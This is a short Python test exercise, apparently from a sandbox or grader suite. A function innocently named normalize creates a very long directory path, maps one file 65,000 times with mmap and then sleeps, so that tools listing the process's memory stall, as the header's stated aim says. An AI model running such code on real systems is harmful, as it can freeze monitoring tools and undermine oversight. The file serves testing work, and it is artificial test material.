# exercise: e01_normalize
# aim: tens of thousands of mappings of a file with a long path, so that who lists them stands still for seconds
# expect: crashed
# points: 0
# patience: 0.3
import ctypes
import os
import time


def normalize(images):
    place = os.getcwd()
    while len(place) < 3800:
        place += "/" + "d" * 200
        os.mkdir(place)
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    with open(f"{place}/b", "w+b") as file:
        file.truncate(1 << 30)
        for number in range(65_000):
            libc.mmap(None, ctypes.c_size_t(4096), 1 + number % 2, 1, file.fileno(), ctypes.c_long(8192 * number))
    time.sleep(1000)
